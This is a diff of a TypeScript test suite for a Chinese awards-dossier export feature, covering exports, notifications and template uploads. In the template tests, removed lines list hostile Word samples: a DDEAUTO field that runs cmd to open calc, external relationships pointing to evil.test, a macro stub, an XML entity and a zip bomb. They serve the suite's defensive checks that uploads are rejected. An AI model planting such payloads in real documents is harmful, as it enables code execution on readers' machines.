@@ -1,4 +1,3 @@
-import { type ChildProcess, spawn } from "node:child_process";
 import { createHash, randomUUID } from "node:crypto";
 import { readdir } from "node:fs/promises";
 import { join } from "node:path";
@@ -6,7 +5,6 @@ import { addDays } from "date-fns/addDays";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { db } from "#app/lib/db.server.ts";
 import { startJobs, stopJobs } from "#app/lib/jobs.server.ts";
-import { wordFile } from "#app/lib/word-file.server.ts";
 import type { Actor } from "#app/modules/accounts/actor.ts";
 import { openFile } from "#app/modules/attachments/open-file.server.ts";
 import { sweepUploads } from "#app/modules/attachments/sweep-uploads.server.ts";
@@ -14,19 +12,31 @@ import { askDossier, askRoundExport } from "#app/modules/awards/dossier/ask-expo
 import { cancelExport } from "#app/modules/awards/dossier/cancel-export.server.ts";
 import { retireTemplate, takeTemplate, uploadTemplate } from "#app/modules/awards/dossier/change-templates.server.ts";
 import { expireExports } from "#app/modules/awards/dossier/expire-exports.server.ts";
+import { readForm } from "#app/modules/awards/dossier/fill-form.ts";
 import type { Manifest } from "#app/modules/awards/dossier/manifest.ts";
 import { previewOf } from "#app/modules/awards/dossier/preview.ts";
 import { loadDossier, loadRoundExports, openExport } from "#app/modules/awards/dossier/queries.server.ts";
-import { loadTemplate, loadTemplates } from "#app/modules/awards/dossier/queries-templates.server.ts";
+import { loadTemplate, loadTemplates, templateFile } from "#app/modules/awards/dossier/queries-templates.server.ts";
+import { readRecords } from "#app/modules/awards/dossier/records.server.ts";
 import { exportsFolder, runExport, silentExports } from "#app/modules/awards/dossier/run-export.server.ts";
 import { addScans, removeScan } from "#app/modules/awards/dossier/scans.server.ts";
 import { shippedSummary } from "#app/modules/awards/dossier/shipped-summary.ts";
 import { singlePaper } from "#app/modules/awards/dossier/single-papers.server.ts";
+import { noticeSubject } from "#app/modules/notifications/subjects.server.ts";
 import { registerPolicies, registerWork } from "#app/worker/register.server.ts";
 import { roundRow } from "#tests/support/award-rows.server.ts";
 import { useTestDatabase } from "#tests/support/database.server.ts";
 import { sheet, word } from "#tests/support/documents.ts";
-import { fullApplication, unzipped } from "#tests/support/dossiers.server.ts";
+import {
+  admittedStudio,
+  brokenFormInUse,
+  formFile,
+  fullApplication,
+  hostileTemplates,
+  toldTwice,
+  unzipped,
+  workerProcess,
+} from "#tests/support/dossiers.server.ts";
 import { actorOf, makeActor, makeWorld, type World } from "#tests/support/factories.server.ts";
 import { until } from "#tests/support/until.ts";
 
@@ -51,11 +61,9 @@ const clock = () => new Date();
 const doc = (text: string, name = "鉴定意见.docx") => new File([new Uint8Array(word(text))], name);
 const manifestIn = (files: Map<string, Buffer>, prefix = ""): Manifest =>
   JSON.parse(files.get(`${prefix}manifest.json`)?.toString() ?? "null") as Manifest;
-const sha256 = (bytes: Buffer | undefined): string =>
-  createHash("sha256")
-    .update(bytes ?? "")
-    .digest("hex");
+const sha256 = (bytes: Buffer = Buffer.alloc(0)): string => createHash("sha256").update(bytes).digest("hex");
 const textOf = (form: Uint8Array): string => previewOf("FORM", form).flat().join("\n");
+const CANCELLED = { state: "CANCELLED", key: null };
 const refused = (code: string) => expect.objectContaining({ code });
 
 async function made(actor: Actor, applicationId = application.id): Promise<{ id: string; files: Map<string, Buffer> }> {
@@ -172,10 +180,52 @@ describe("one application", () => {
   });
 });
 
+describe("a studio's and a person's dossier", () => {
+  test("holds what their facts were counted from, and stays as it was admitted", async () => {
+    const lively = await makeWorld();
+    const { officer, leader } = lively;
+    const id = await admittedStudio(lively);
+    const form = async (actor: Actor) => previewOf("FORM", (await singlePaper(actor, id, "form")).bytes);
+    const rows = await form(officer);
+    const text = rows.flat().join("\n");
+    const facts = await db.applicationFact.findMany({ where: { applicationId: id } });
+    const count = (key: string) => Number(facts.find((one) => one.key === key)?.value);
+    // As many rows as the facts count.
+    expect(rows.filter((row) => row.includes("技术协作攻关活动"))).toHaveLength(count("exchanges"));
+    expect(rows.filter((row) => row.includes("技师（二级）") && row.includes("人社局"))).toHaveLength(
+      count("membersPromoted"),
+    );
+    expect(rows.filter((row) => row.includes("技术革新"))).toHaveLength(count("achievements"));
+    expect(text).toContain("4 年");
+    expect(text).toContain("600,000 元");
+    expect(text).toContain(lively.leader.name);
+    expect(text).toContain("名师带徒");
+    // Without entries a table says so.
+    expect(rows.filter((row) => row[0] === "无").length).toBeGreaterThan(3);
+    // The leader reads bands: no amount anywhere, in lists and sums alike.
+    const banded = (await form(leader)).flat().join("\n");
+    expect(banded).not.toContain("600,000");
+    expect(banded).toContain("50 万～100 万元");
+
+    // Everybody and everything changes afterwards; the paper does not.
+    await db.person.update({ where: { id: lively.leader.personId }, data: { name: "换了名字" } });
+    await db.organisation.update({ where: { id: lively.toolsStudio }, data: { name: "换了名称" } });
+    await db.activity.updateMany({ where: { allianceId: lively.alliance }, data: { topic: "换了主题" } });
+    await db.membership.updateMany({ where: { organisationId: lively.toolsStudio }, data: { endsAt: new Date() } });
+    expect(await form(officer)).toEqual(rows);
+    await expect(db.applicationContent.update({ where: { applicationId: id }, data: { content: {} } })).rejects.toThrow(
+      /cannot be changed/,
+    );
+    // Certificates of those promoted are evidence.
+    const [record] = await readRecords([id], { exact: true, now: new Date() });
+    expect(record?.files.filter((file) => file.of === "STUDIO")).toHaveLength(3);
+  });
+});
+
 describe("a whole round", () => {
   test("a killed export goes on where it was, and is the same as if it had not been", async () => {
     const { id } = await askRoundExport(world.officer, roundId, { clientId: randomUUID(), states: [] });
-    const child = worker();
+    const child = workerProcess(database.facts);
     const folder = join(exportsFolder(), id);
     const prepared = async () => (await readdir(folder).catch(() => [])).filter((name) => name.endsWith(".json"));
     await until("the first is prepared", async () => (await prepared()).length > 0);
@@ -210,19 +260,40 @@ describe("a whole round", () => {
   test("asked twice it is one; another choice has to wait; a repeat is the same", async () => {
     const clientId = randomUUID();
     const first = await askRoundExport(world.officer, roundId, { clientId, states: [] });
-    expect(await askRoundExport(world.officer, roundId, { clientId, states: [] })).toEqual(first);
-    expect(await askRoundExport(world.officer, roundId, { clientId: randomUUID(), states: [] })).toEqual(first);
+    for (const one of [clientId, randomUUID()])
+      expect(await askRoundExport(world.officer, roundId, { clientId: one, states: [] })).toEqual(first);
     await expect(
       askRoundExport(world.officer, roundId, { clientId: randomUUID(), states: ["RECOMMENDED"] }),
     ).rejects.toEqual(refused("conflict"));
     await expect(cancelExport(judge, first.id)).rejects.toEqual(refused("not_found"));
     await cancelExport(world.officer, first.id);
     await runExport(first.id, clock);
-    expect(await db.dossierExport.findUniqueOrThrow({ where: { id: first.id } })).toMatchObject({
-      state: "CANCELLED",
-      key: null,
-    });
+    expect(await db.dossierExport.findUniqueOrThrow({ where: { id: first.id } })).toMatchObject(CANCELLED);
     await expect(cancelExport(world.officer, first.id)).rejects.toEqual(refused("conflict"));
+  });
+
+  test("who asked hears of the end once, if it is still theirs to read; a failure is told too", async () => {
+    const own = await made(world.craftsman);
+    const [notice, ...more] = await toldTwice(own.id, "dossier.export-made");
+    expect(more).toEqual([]);
+    expect(notice).toMatchObject({ personId: world.craftsman.personId, subjectId: own.id, readAt: null });
+    const subject = noticeSubject("dossier");
+    const asked = [{ subjectId: own.id, payload: notice?.payload }];
+    expect([...((await subject?.read(world.craftsman, asked)) ?? [])]).toMatchObject([
+      [own.id, { title: expect.stringContaining("卡瓶治理") }],
+    ]);
+    expect(await subject?.read(world.outsider, asked)).toEqual(new Map());
+    expect(subject?.path(own.id, notice?.payload)).toBe(`/awards/dossiers/${application.id}`);
+
+    // A form that cannot be filled in, put into use behind the product's back.
+    const broken = await brokenFormInUse(world, roundId);
+    const { id } = await askRoundExport(world.officer, roundId, { clientId: randomUUID(), states: [] });
+    await runExport(id, clock);
+    await db.dossierTemplate.update({ where: { id: broken }, data: { retiredAt: new Date() } });
+    expect(await db.dossierExport.findUniqueOrThrow({ where: { id } })).toMatchObject({ state: "FAILED", key: null });
+    const [failed] = await toldTwice(id, "dossier.export-failed");
+    expect(failed).toMatchObject({ personId: world.officer.personId, type: "dossier.export-failed" });
+    expect(subject?.path(id, failed?.payload)).toBe(`/awards/dossiers/rounds/${roundId}`);
   });
 
   test("cancelled while it is made it stops, and nothing is left behind", async () => {
@@ -234,10 +305,7 @@ describe("a whole round", () => {
     );
     await cancelExport(world.officer, id);
     await running;
-    expect(await db.dossierExport.findUniqueOrThrow({ where: { id } })).toMatchObject({
-      state: "CANCELLED",
-      key: null,
-    });
+    expect(await db.dossierExport.findUniqueOrThrow({ where: { id } })).toMatchObject(CANCELLED);
     expect(await readdir(exportsFolder())).not.toContain(id);
   });
 
@@ -263,27 +331,24 @@ describe("a whole round", () => {
 });
 
 describe("templates", () => {
-  const template = async (...lines: string[]) =>
-    new File(
-      [
-        new Uint8Array(
-          await wordFile({
-            title: "",
-            foot: "",
-            language: "zh-CN",
-            blocks: lines.map((text) => ({ kind: "text", text })),
-          }),
-        ),
-      ],
-      "我们的表.docx",
-    );
   const upload = (file: File, kind: "FORM" | "SUMMARY" = "FORM") =>
     uploadTemplate(world.officer, { organisationId: world.federation, kind, name: "我们的表", file });
 
   test("replaced without a line of code, tried first, and put away again", async () => {
-    const { id } = await upload(await template("本会专用 {成果名称}", "{成果名字}", "{#完成人}{姓名}；{/完成人}"));
+    const { id } = await upload(await formFile("本会专用 {成果名称}", "{成果名字}", "{#完成人}{姓名}；{/完成人}"));
     const page = await loadTemplate(world.officer, id);
-    expect(page.unknown).toEqual([{ field: "成果名字", suggestions: expect.arrayContaining(["成果名称"]) }]);
+    expect(page.unknown).toMatchObject([
+      {
+        field: "成果名字",
+        suggestions: expect.arrayContaining(["成果名称"]),
+        place: { part: "BODY", near: "{成果名字}" },
+      },
+    ]);
+    // It comes back as it was uploaded; nobody else gets it.
+    const original = await templateFile(world.officer, id);
+    expect(readForm(original.bytes).fields).toContain("成果名字");
+    await expect(templateFile(judge, id).then((file) => file.name)).resolves.toBe("我们的表");
+    await expect(templateFile(world.secretariat, id)).rejects.toEqual(refused("not_found"));
     expect(page.trial.flat().join("\n")).toContain("本会专用 啤酒灌装线瓶盖错位在线检测装置");
     const before = textOf((await singlePaper(world.officer, application.id, "form")).bytes);
     expect(before).not.toContain("本会专用");
@@ -293,7 +358,7 @@ describe("templates", () => {
     expect(after).toContain(`${world.craftsman.name}；`);
     await expect(takeTemplate(world.officer, id)).rejects.toEqual(refused("conflict"));
     // The next takes its place.
-    const second = await upload(await template("第二版 {成果名称}"));
+    const second = await upload(await formFile("第二版 {成果名称}"));
     await takeTemplate(world.officer, second.id);
     expect((await loadTemplates(world.officer)).rows.map((row) => row.id)).toEqual([second.id]);
     await retireTemplate(world.officer, second.id);
@@ -301,10 +366,10 @@ describe("templates", () => {
   });
 
   test("with faults it is shown what and where, and cannot be used", async () => {
-    const { id } = await upload(await template("{#完成人}{姓名}"));
+    const { id } = await upload(await formFile("{#完成人}{姓名}"));
     const page = await loadTemplate(world.officer, id);
     expect(page.usable).toBe(false);
-    expect(page.faults).toEqual([{ code: "unclosed_loop", field: "完成人" }]);
+    expect(page.faults).toMatchObject([{ code: "unclosed_loop", field: "完成人", place: { near: "{#完成人}{姓名}" } }]);
     await expect(takeTemplate(world.officer, id)).rejects.toEqual(refused("invalid"));
     const plain = new File([new Uint8Array(await shippedSummary())], "x.xlsx");
     const summary = await upload(plain, "SUMMARY");
@@ -312,30 +377,7 @@ describe("templates", () => {
   });
 
   test("nothing that runs, fetches or blows up", async () => {
-    const rels = (target: string) => ({
-      name: "word/_rels/document.xml.rels",
-      text: `<Relationships><Relationship Id="r" Type="http://x/${target}" Target="http://evil.test/a" TargetMode="External"/></Relationships>`,
-    });
-    const hostile: [string, Buffer, string][] = [
-      ["macro", word("x", [{ name: "word/vbaProject.bin", text: "x" }]), "file-macro"],
-      ["template from elsewhere", word("x", [rels("attachedTemplate")]), "file-remote"],
-      ["linked picture", word("x", [rels("image")]), "template-foreign"],
-      ["embedded object", word("x", [{ name: "word/embeddings/o.bin", text: "x" }]), "template-foreign"],
-      [
-        "DDE",
-        word('x</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd "/c calc"</w:instrText></w:r><w:r><w:t>'),
-        "template-foreign",
-      ],
-      [
-        "entities",
-        word("x", [{ name: "word/styles.xml", text: '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }]),
-        "template-broken",
-      ],
-      ["bomb", word("x", [{ name: "word/media/a.xml", text: Buffer.alloc(60 * 1024 * 1024) }]), "file-bomb"],
-      ["workbook as a form", sheet("{成果名称}"), "template-type-FORM"],
-      ["no archive", Buffer.from("not a file"), "file-broken"],
-    ];
-    for (const [name, bytes, messageKey] of hostile)
+    for (const [name, bytes, messageKey] of hostileTemplates())
       await expect(upload(new File([new Uint8Array(bytes)], "a.docx")), name).rejects.toEqual(
         expect.objectContaining({ messageKey, details: expect.objectContaining({ field: "file" }) }),
       );
@@ -354,12 +396,3 @@ describe("templates", () => {
     }
   });
 });
-
-/** A worker in a process of its own. */
-function worker(): ChildProcess {
-  const child = spawn(process.execPath, ["--no-warnings", "tests/support/worker-process.ts"], {
-    env: { ...process.env, WORKER_FACTS: JSON.stringify({ ...database.facts, worker: "inline" }) },
-    stdio: ["ignore", "ignore", "inherit"],
-  });
-  return child;
-}
